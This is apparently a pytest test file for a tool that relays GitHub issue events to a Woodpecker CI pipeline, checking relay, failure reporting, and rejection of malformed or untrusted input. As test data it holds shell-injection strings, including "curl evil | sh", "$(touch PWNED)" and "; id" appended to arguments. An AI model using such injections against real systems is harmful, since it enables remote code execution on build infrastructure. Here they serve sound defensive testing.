"""Woodpecker mode end to end: relay the event, follow the pipeline, report failures on the issue.

Woodpecker's API is served by a loopback HTTP server in its real shapes
(repo lookup, pipeline create and get); GitHub's by FakeGitHub at the
HTTP boundary. The Actions half relays an event name from a fixed list (and,
for an approval, the comment's id), never issue text. The in-cluster half,
`responder handle --issue N --relayed-event E`, checks both values again and
rebuilds the event from the API, so the normal screen and trust check apply.
"""

from __future__ import annotations

import io
import json
import re
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import pytest

from responder.cli.main import main
from responder.flows.failure_report import MARKER
from responder.model.state import IssueState, render_marker
from tests.conftest import EXAMPLE_CONFIG, issue_body
from tests.support import events
from tests.support.github_api import FakeGitHub
from tests.support.http_services import JsonHandler, base_url, closed_port_url, serve

HOSTILE_TITLE = "'; curl evil | sh; echo '"
HOSTILE_LINE = "$(touch PWNED) `id` ${IFS}"
GITHUB_TOKEN = "ghs_" + "W00dp3ckerM0de" * 3
WOODPECKER_TOKEN = "wpt_" + "Pers0nalAcc3ssT0ken" * 2


@dataclass
class Woodpecker:
    statuses: list[str] = field(default_factory=lambda: ["pending", "running", "success"])
    created: list[dict[str, Any]] = field(default_factory=list)
    auth: list[str] = field(default_factory=list)
    gets: int = 0
    url: str = ""


@pytest.fixture
def woodpecker() -> Iterator[Woodpecker]:
    state = Woodpecker()

    def pipeline(status: str) -> dict[str, Any]:
        return {"id": 9041, "number": 57, "author": "issueops-responder", "parent": 0, "event": "manual",
                "status": status, "errors": None, "created": 1763906760, "updated": 1763906761,
                "started": 1763906762, "finished": 0, "deploy_to": "", "commit": "4f1c0e2", "branch": "main",
                "ref": "refs/heads/main", "refspec": "", "title": "", "message": "MANUAL PIPELINE @ main",
                "timestamp": 1763906760, "sender": "issueops-responder", "author_avatar": "", "author_email": "",
                "forge_url": "https://github.com/acme-homelab/infra/commit/4f1c0e2", "reviewed_by": "",
                "reviewed": 0, "variables": {"ISSUE_NUMBER": "42", "ISSUE_REPOSITORY": "acme-homelab/infra"}}

    class Handler(JsonHandler):

        def do_GET(self) -> None:
            state.auth.append(self.headers.get("Authorization", ""))
            if self.path == "/api/repos/lookup/acme-homelab/infra":
                self.send_json(200, {"id": 12, "forge_remote_id": "771234", "owner": "acme-homelab", "name": "infra",
                                 "full_name": "acme-homelab/infra", "default_branch": "main", "active": True})
            elif self.path == "/api/repos/12/pipelines/57":
                state.gets += 1
                self.send_json(200, pipeline(state.statuses[min(state.gets, len(state.statuses) - 1)]))
            else:
                self.send_json(404, {"message": "not found"})

        def do_POST(self) -> None:
            state.auth.append(self.headers.get("Authorization", ""))
            body = json.loads(self.rfile.read(int(self.headers["Content-Length"])))
            state.created.append(body)
            self.send_json(200, pipeline(state.statuses[0]))

    with serve(Handler) as server:
        state.url = base_url(server)
        yield state


@pytest.fixture
def github(github: FakeGitHub) -> FakeGitHub:
    github.permissions.update({"alice": "write", "maintainer": "admin"})
    github.add_issue(issue())
    return github



def issue(**fields: Any) -> dict[str, Any]:
    """Outage report #42 as GET /repos/{o}/{r}/issues/42 answers it; its title and body carry shell syntax."""
    body = issue_body("outage-nextcloud-502.md") + "\n" + HOSTILE_LINE
    return events.issue(42, body=body, title=HOSTILE_TITLE, **fields)


def issues_event(action: str, **fields: Any) -> dict[str, Any]:
    payload = events.issues_event(action, **fields)
    payload["issue"] = {**issue(**{k: v for k, v in fields.items() if k != "added_label" and k != "sender"})}
    return payload


def comment_event(text: str, commenter: str = "maintainer", **fields: Any) -> dict[str, Any]:
    payload = events.comment_event(text, commenter=commenter, **fields)
    payload["issue"] = issue()
    return payload


def cli(*argv: str, env: dict[str, str] | None = None) -> tuple[int, str, str]:
    out, err = io.StringIO(), io.StringIO()
    base = {"GITHUB_TOKEN": GITHUB_TOKEN, "WOODPECKER_TOKEN": WOODPECKER_TOKEN, "RESPONDER_GITHUB_WRITE_INTERVAL": "0"}
    try:
        code = main(list(argv), env={**base, **(env or {})}, stdout=out, stderr=err)
    except SystemExit as exc:  # argparse refused the arguments (its message went to err)
        code = int(str(exc.code))
    return code, out.getvalue(), err.getvalue()


Start = Callable[..., tuple[int, str, str]]


@pytest.fixture
def start(tmp_path: Path) -> Start:
    """`responder woodpecker run` as the Actions job runs it: the event file and its name in the environment."""

    def run(url: str, *extra: str, payload: dict[str, Any] | None = None,
            event_name: str = "issues") -> tuple[int, str, str]:
        event = events.write(tmp_path, payload if payload is not None else issues_event("opened"))
        return cli("woodpecker", "run", "--config", str(EXAMPLE_CONFIG), "--issue", "42", "--server", url,
                   "--poll", "0", *extra, env={"GITHUB_EVENT_PATH": str(event), "GITHUB_EVENT_NAME": event_name})

    return run


def handle(*argv: str) -> tuple[int, str, str]:
    """The pipeline's command, as .woodpecker/issue-automation.yml runs it (dry run, no probes)."""
    return cli("handle", "--config", str(EXAMPLE_CONFIG), "--issue", "42", "--repository", "acme-homelab/infra",
               "--dry-run", "--no-probe", *argv)


# ---------------------------------------------------------------- the Actions side: what is relayed


def test_an_opened_issue_is_relayed_as_its_number_repository_and_event_name(woodpecker: Woodpecker,
                                                                            github: FakeGitHub, start: Start) -> None:
    code, _, err = start(woodpecker.url)
    assert code == 0, err
    assert woodpecker.created == [{"branch": "main",
                                   "variables": {"ISSUE_NUMBER": "42", "ISSUE_REPOSITORY": "acme-homelab/infra",
                                                 "ISSUE_EVENT": "opened"}}]
    assert set(woodpecker.auth) == {f"Bearer {WOODPECKER_TOKEN}"}
    assert github.writes() == []  # success: nothing to report
    assert WOODPECKER_TOKEN not in err
    assert "started Woodpecker pipeline #57 for #42 (opened)" in err


INCIDENT = ("user-report", "incident", "sev2", "postmortem-required")


@pytest.mark.parametrize(("payload", "event_name", "relayed"), [
    (issues_event("opened"), "issues", {"ISSUE_EVENT": "opened"}),
    (issues_event("edited"), "issues", {"ISSUE_EVENT": "edited"}),
    (issues_event("reopened"), "issues", {"ISSUE_EVENT": "reopened"}),
    (issues_event("labeled", added_label="user-report"), "issues", {"ISSUE_EVENT": "labeled"}),
    (issues_event("closed", labels=INCIDENT, state="closed", sender="maintainer"), "issues",
     {"ISSUE_EVENT": "closed"}),
    (comment_event("/responder approve\nLooks legit.", comment_id=5001), "issue_comment",
     {"ISSUE_EVENT": "approve", "COMMENT_ID": "5001"}),
], ids=["opened", "edited", "reopened", "labeled", "closed", "approve"])
def test_each_event_the_responder_acts_on_is_relayed_by_name_only(woodpecker: Woodpecker, github: FakeGitHub,
                                                                   start: Start, payload: dict[str, Any],
                                                                   event_name: str, relayed: dict[str, str]) -> None:
    code, _, err = start(woodpecker.url, payload=payload, event_name=event_name)
    assert code == 0, err
    [created] = woodpecker.created
    assert created["variables"] == {"ISSUE_NUMBER": "42", "ISSUE_REPOSITORY": "acme-homelab/infra", **relayed}
    sent = json.dumps(created)
    assert "curl" not in sent and "PWNED" not in sent and "Looks legit" not in sent


@pytest.mark.parametrize(("payload", "event_name", "reason"), [
    (comment_event("Any news? /responder approve"), "issue_comment", "the comment is not a responder command"),
    (comment_event("thanks!", commenter="alice"), "issue_comment", "the comment is not a responder command"),
    (comment_event("/responder approve", commenter="github-actions[bot]"), "issue_comment",
     "the event was caused by the responder itself"),
    ({**comment_event("/responder approve"), "action": "edited"}, "issue_comment",
     "issue_comment.edited is not an event the responder handles"),
    (issues_event("labeled", added_label="sev1"), "issues", "the label 'sev1' does not concern the responder"),
    (issues_event("labeled", added_label="user-report", sender="github-actions[bot]"), "issues",
     "the event was caused by the responder itself"),
    (issues_event("closed", state="closed"), "issues", "the closed issue is not an incident"),
    (issues_event("assigned"), "issues", "issues.assigned is not an event the responder handles"),
], ids=["command-not-first", "plain-comment", "own-comment", "comment-edited", "other-label", "own-label",
        "closed-non-incident", "assigned"])
def test_anything_else_is_not_relayed(woodpecker: Woodpecker, github: FakeGitHub, start: Start,
                                      payload: dict[str, Any], event_name: str, reason: str) -> None:
    code, _, err = start(woodpecker.url, payload=payload, event_name=event_name)
    assert code == 0, err
    assert f"responder: #42: not relayed: {reason}\n" in err
    assert woodpecker.created == [] and woodpecker.auth == []
    assert github.requests == 0


def test_a_comment_on_a_pull_request_is_not_relayed(woodpecker: Woodpecker, github: FakeGitHub,
                                                    start: Start) -> None:
    payload = comment_event("/responder approve")
    payload["issue"]["pull_request"] = {"url": "https://api.github.com/repos/acme-homelab/infra/pulls/42"}
    code, _, err = start(woodpecker.url, payload=payload, event_name="issue_comment")
    assert (code, woodpecker.created) == (0, [])
    assert "not relayed: pull requests are not handled" in err


@pytest.mark.parametrize(("env", "message"), [
    ({}, "no event given"),
    ({"GITHUB_EVENT_PATH": "/nonexistent/event.json"}, "event file /nonexistent/event.json: no such file"),
], ids=["no-event", "missing-file"])
def test_the_relay_needs_the_event(woodpecker: Woodpecker, github: FakeGitHub, env: dict[str, str],
                                   message: str) -> None:
    code, _, err = cli("woodpecker", "run", "--config", str(EXAMPLE_CONFIG), "--issue", "42", "--server",
                       woodpecker.url, env=env)
    assert code == 2
    assert f"responder: error: {message}" in err
    assert woodpecker.created == [] and github.requests == 0


def test_an_event_about_another_issue_is_refused(woodpecker: Woodpecker, github: FakeGitHub, start: Start) -> None:
    payload = issues_event("opened")
    payload["issue"]["number"] = 43
    code, _, err = start(woodpecker.url, payload=payload)
    assert code == 2
    assert "the event is about issue #43, not #42" in err
    assert woodpecker.created == []


# ---------------------------------------------------------------- the Actions side: following the pipeline


@pytest.mark.parametrize(("statuses", "what"), [
    (["pending", "running", "failure"], "The in-cluster pipeline #\u200b57 ended with status failure"),
    (["pending", "killed"], "The in-cluster pipeline #\u200b57 ended with status killed"),
], ids=["failure", "killed"])
def test_a_failed_pipeline_is_reported_on_the_issue(woodpecker: Woodpecker, github: FakeGitHub, start: Start,
                                                    statuses: list[str], what: str) -> None:
    woodpecker.statuses = statuses
    code, _, err = start(woodpecker.url)
    assert code == 1
    assert "reported on the issue" in err
    [comment] = github.bot_comments(42)
    assert comment["body"].startswith("### ⚠️ The responder could not finish its run\n\n" + what)
    assert f"Details: {woodpecker.url}/repos/12/pipeline/57" in comment["body"]
    assert MARKER in comment["body"]
    assert "needs-human" in github.labels(42)


def test_a_pipeline_that_outlasts_the_wait_is_reported_once(woodpecker: Woodpecker, github: FakeGitHub,
                                                            start: Start) -> None:
    woodpecker.statuses = ["blocked"]
    assert start(woodpecker.url, "--timeout", "0")[0] == 1
    assert start(woodpecker.url, "--timeout", "0")[0] == 1
    [comment] = github.bot_comments(42)  # the second report edits the first
    assert "was still blocked when the wait ran out" in comment["body"]


def test_an_unreachable_woodpecker_is_reported_too(github: FakeGitHub, start: Start) -> None:
    code, _, err = start(closed_port_url().rstrip("/"))
    assert code == 1
    assert "cannot reach Woodpecker" in err
    [comment] = github.bot_comments(42)
    assert "The in-cluster pipeline could not be started (cannot reach Woodpecker" in comment["body"]


def test_report_failure_links_the_actions_run(github: FakeGitHub) -> None:
    code, out, _ = cli("report-failure", "--config", str(EXAMPLE_CONFIG), "--issue", "42",
                       "--reason", "The responder's GitHub Actions job failed",
                       env={"GITHUB_SERVER_URL": "https://github.com", "GITHUB_REPOSITORY": "acme-homelab/infra",
                            "GITHUB_RUN_ID": "11223344"})
    assert code == 0 and out.startswith("reported the failure on #42: https://github.com/acme-homelab/infra/issues/42")
    body = github.bot_comments(42)[0]["body"]
    assert "Details: https://github.com/acme-homelab/infra/actions/runs/11223344" in body


# ---------------------------------------------------------------- the pipeline side: rebuilding the event


def test_the_pipeline_side_reads_the_issue_through_the_api(github: FakeGitHub) -> None:
    code, out, err = cli("handle", "--config", str(EXAMPLE_CONFIG), "--issue", "42", "--dry-run", "--no-probe")
    assert code == 0, err
    decision = json.loads(out)
    assert (decision["issue"], decision["event"], decision["outcome"]) == (42, "issues.edited", "triaged")
    assert github.log[0] == ("GET", "/repos/acme-homelab/infra/issues/42")


@pytest.mark.parametrize("relayed", ["opened", "edited", "reopened", "labeled"])
def test_the_relayed_issue_event_is_rebuilt_from_the_api(github: FakeGitHub, relayed: str) -> None:
    code, out, err = handle("--relayed-event", relayed, "--comment-id", "")
    assert code == 0, err
    decision = json.loads(out)
    assert (decision["event"], decision["outcome"]) == (f"issues.{relayed}", "triaged")
    assert github.log[0] == ("GET", "/repos/acme-homelab/infra/issues/42")


def test_a_relayed_reopen_is_investigated_again(github: FakeGitHub) -> None:
    """The bug this relay fixes: rebuilt as `edited`, a reopened report was 'already investigated'."""
    github.add_comment(42, "### ✅ Nextcloud looks healthy\n\n" + render_marker(
        IssueState(kind="outage-report", outcome="healthy", severity="SEV2")), "github-actions[bot]", kind="Bot")
    code, out, _ = handle()
    assert json.loads(out)["reasons"][0].startswith("#42 was already investigated (outcome healthy)")
    code, out, err = handle("--relayed-event", "reopened")
    assert code == 0, err
    decision = json.loads(out)
    assert decision["event"] == "issues.reopened"
    assert decision["outcome"] != "ignored"


def test_a_closed_incident_is_rebuilt_as_closed(github: FakeGitHub) -> None:
    github.issues[42].data.update(state="closed", closed_at="2026-11-23T15:40:00Z",
                                  labels=[events.label(name) for name in INCIDENT])
    code, out, err = handle("--relayed-event", "closed")
    assert code == 0, err
    decision = json.loads(out)
    assert (decision["event"], decision["outcome"]) == ("issues.closed", "post-mortem")


def queue_untrusted_report(github: FakeGitHub) -> None:
    """#42 filed by someone who is not a collaborator: it waits for a maintainer's approval."""
    github.issues[42].data.update(user=events.user("mallory"), author_association="NONE")


def test_a_relayed_approval_is_read_through_the_api_and_honoured(github: FakeGitHub) -> None:
    queue_untrusted_report(github)
    code, out, _ = handle("--relayed-event", "opened")
    assert json.loads(out)["outcome"] == "queued"
    digest = re.search(r"`/responder approve ([0-9a-f]{12})`", json.loads(out)["actions"][-1]["body"])
    assert digest is not None
    approval = github.add_comment(42, f"/responder approve {digest[1]}\nLooks legit.", "maintainer", "OWNER")
    code, out, err = handle("--relayed-event", "approve", "--comment-id", str(approval["id"]))
    assert code == 0, err
    decision = json.loads(out)
    assert (decision["event"], decision["outcome"], decision["trusted"]) == ("issue_comment.created", "triaged", True)
    assert ("GET", f"/repos/acme-homelab/infra/issues/comments/{approval['id']}") in github.log
    comment = next(a for a in decision["actions"] if a["type"] == "comment")
    assert "approved for automation by maintainer" in comment["body"]


@pytest.mark.parametrize(("commenter", "association", "text", "reason"), [
    ("mallory", "NONE", "/responder approve",
     "mallory may not approve reports (author_association NONE: not a collaborator)"),
    ("maintainer", "OWNER", "I will look at this tomorrow.", "the comment is not a responder command"),
], ids=["untrusted-commenter", "not-a-command"])
def test_a_relayed_comment_gets_the_normal_screen_and_trust_check(github: FakeGitHub, commenter: str,
                                                                  association: str, text: str, reason: str) -> None:
    queue_untrusted_report(github)
    comment = github.add_comment(42, text, commenter, association)
    code, out, err = handle("--relayed-event", "approve", "--comment-id", str(comment["id"]))
    assert code == 0, err
    decision = json.loads(out)
    assert (decision["outcome"], decision["reasons"]) == ("ignored", [reason])


def test_an_approval_on_another_issue_is_refused(github: FakeGitHub) -> None:
    queue_untrusted_report(github)
    github.add_issue(events.issue(7, body=issue_body("outage-nextcloud-502.md")))
    elsewhere = github.add_comment(7, "/responder approve", "maintainer", "OWNER")
    code, out, err = handle("--relayed-event", "approve", "--comment-id", str(elsewhere["id"]))
    assert (code, out) == (2, "")
    assert f"responder: error: comment {elsewhere['id']} is not on issue #42 of acme-homelab/infra\n" in err
    assert github.writes() == []


def test_a_deleted_approval_approves_nothing(github: FakeGitHub) -> None:
    queue_untrusted_report(github)
    code, out, err = handle("--relayed-event", "approve", "--comment-id", "987654")
    assert code == 0, err
    decision = json.loads(out)
    assert decision["outcome"] == "ignored"
    assert "comment 987654 no longer exists" in err


@pytest.mark.parametrize(("argv", "message"), [
    (("--issue", "$(id)"), "expected an issue number"),
    (("--issue", "0"), "expected an issue number"),
    (("--issue", "42", "--repository", "acme/infra; id"), "OWNER/NAME"),
    (("--issue", "42", "--relayed-event", "$(touch PWNED)"),
     "--relayed-event: expected one of opened, edited, reopened, labeled, closed, approve, got '$(touch PWNED)'"),
    (("--issue", "42", "--relayed-event", "deleted"), "--relayed-event: expected one of"),
    (("--issue", "42", "--relayed-event", ""), "--relayed-event: expected one of"),
    (("--issue", "42", "--relayed-event", "approve"), "--relayed-event approve needs the approving comment's id"),
    (("--issue", "42", "--relayed-event", "approve", "--comment-id", "12; id"),
     "--comment-id: expected a comment id (digits only), got '12; id'"),
    (("--issue", "42", "--relayed-event", "approve", "--comment-id", "\u00b2"), "--comment-id: expected a comment id"),
    (("--issue", "42", "--relayed-event", "approve", "--comment-id", "0"),
     "--relayed-event approve needs the approving comment's id"),
    (("--issue", "42", "--relayed-event", "opened", "--comment-id", "5001"),
     "--comment-id goes only with --relayed-event approve, not opened"),
    (("--issue", "42", "--comment-id", "5001"), "--comment-id goes with --relayed-event approve"),
    (("--relayed-event", "opened"), "--relayed-event and --comment-id go with --issue N"),
], ids=["issue-substitution", "issue-zero", "repository", "event-substitution", "event-unknown", "event-empty",
        "approve-without-id", "id-substitution", "id-superscript", "id-zero", "id-without-approve",
        "id-without-event", "event-without-issue"])
def test_the_pipeline_side_refuses_malformed_variables(github: FakeGitHub, argv: tuple[str, ...],
                                                       message: str) -> None:
    code, _, err = cli("handle", "--config", str(EXAMPLE_CONFIG), *argv)
    assert code == 2
    assert github.requests == 0
    assert message in err and "Traceback" not in err
